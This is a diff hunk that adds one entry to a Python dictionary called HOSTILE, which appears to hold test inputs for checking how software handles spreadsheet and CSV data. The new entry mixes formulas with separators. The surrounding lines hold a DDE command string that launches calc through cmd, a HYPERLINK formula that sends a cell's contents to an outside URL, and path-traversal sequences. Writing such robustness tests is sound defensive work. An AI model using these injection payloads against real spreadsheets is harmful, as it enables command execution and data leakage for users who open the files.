@@ -27,6 +27,7 @@ HOSTILE = {
     "breaks": "one\ntwo\n\nthree\nfour",
     "a formula": '=HYPERLINK("https://example.invalid/?"&A1,"x")',
     "a command": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "formulas between separators": """a;=1+1, @x,"-2";""+3; "" =4 ,'=5;＝6""",
     "percents": "%s %(num)s %d %% %00 %2e%2e%2f ../../x ~^_#$&",
     "marks": "q" + "\u0301" * 8,
     "one long word": "x" * 3000,
